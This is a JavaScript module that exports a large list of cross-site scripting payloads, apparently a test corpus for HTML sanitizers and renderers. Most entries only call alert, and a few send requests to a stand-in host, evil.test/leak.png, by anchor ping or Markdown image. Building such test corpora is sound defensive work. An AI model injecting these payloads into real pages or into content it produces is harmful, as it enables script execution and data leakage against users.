// Markup that runs a script or sends a request if a page treats it as its own. Success calls `alert`.

/** Elements whose events fire by themselves, at once or soon. */
const ELEMENTS = [
  '<img src=x onerror=alert(1)>', '<IMG SRC=x OnErRoR="alert(1)">', '<img/src=x/onerror=alert(1)>', '<img src=x onerror\n=\nalert(1)>',
  '<image src=x onerror=alert(1)>', '<img src="x` `<script>alert(1)</script>"` `>', '<img srcset=x onerror=alert(1)>',
  '<svg onload=alert(1)>', '<svg/onload=alert(1)//', '<svg><script>alert(1)</script></svg>', '<svg><script href="data:,alert(1)"/>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set onbegin=alert(1) attributeName=x to=y>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>', '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<script>alert(1)</script>', '<script src="data:,alert(1)"></script>', '<script type=module>alert(1)</script>', '<scr<script>ipt>alert(1)</script>',
  '</script><script>alert(1)</script>', '"><script>alert(1)</script>', '\'><img src=x onerror=alert(1)>', '`><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>', '<body onpageshow=alert(1)>', '<body background="javascript:alert(1)">', '<frameset onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>', '<iframe onload=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>', '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="javascript:alert(1)">',
  '<video src=x onerror=alert(1)></video>', '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)></audio>',
  '<video poster="javascript:alert(1)"></video>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>', '<button autofocus onfocus=alert(1)>x</button>', '<input type=image src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>', '<marquee onstart=alert(1)>x</marquee>', '<keygen autofocus onfocus=alert(1)>',
  '<div style="animation:x 1ms" onanimationstart=alert(1)></div>', '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@keyframes x{}</style><b style="animation:x 1ms" onanimationend=alert(1)></b>', '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href="javascript:alert(1)">', '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  '<base href="javascript:alert(1)//"><a href=x>x</a>', '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>', '<isindex action="javascript:alert(1)">',
  '<template><img src=x onerror=alert(1)></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src=x onerror=alert(1)></title>', '<textarea></textarea><img src=x onerror=alert(1)>', '<table background="javascript:alert(1)">',
  '<x onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:alert(1)">x</a>',
  '<a href=//evil.test/leak.png ping=//evil.test/leak.png>x</a>', '<map><area href="javascript:alert(1)"></map>', '<plaintext><img src=x onerror=alert(1)>',
];

/** Comments, sections and encodings that end elsewhere than they seem to. */
const DISGUISED = [
  '<!--<img src="--><img src=x onerror=alert(1)//">', '<![<img src="]><img src=x onerror=alert(1)//">', '<comment><img src="</comment><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>', '<?php echo "<img src=x onerror=alert(1)>" ?>',
  '&lt;img src=x onerror=alert(1)&gt;', '\\u003cimg src=x onerror=alert(1)\\u003e', '%3Cimg%20src=x%20onerror=alert(1)%3E', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u{feff}<img src=x onerror=alert(1)>', '<\u0000img src=x onerror=alert(1)>', '\u{202e}<img src=x onerror=alert(1)>', '<img src=x onerror="&#97;lert(1)">',
];

/** Text in other languages that a viewer may render: Markdown, templates, terminals. */
const RENDERED = [
  '[x](javascript:alert(1))', '![x](javascript:alert(1))', '![x](http://evil.test/leak.png)', '[x]: javascript:alert(1)\n[x]', '<javascript:alert(1)>',
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= alert(1) %>', '{% raw %}<img src=x onerror=alert(1)>{% endraw %}',
  '\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007', '\u001b[31m<img src=x onerror=alert(1)>\u001b[0m', '```html\n<img src=x onerror=alert(1)>\n```',
  '$\\href{javascript:alert(1)}{x}$', '<img src=x onerror=alert(1)>'.repeat(50), `${'<b>'.repeat(500)}<img src=x onerror=alert(1)>`,
];

/** All vectors. */
export const VECTORS = [...ELEMENTS, ...DISGUISED, ...RENDERED];
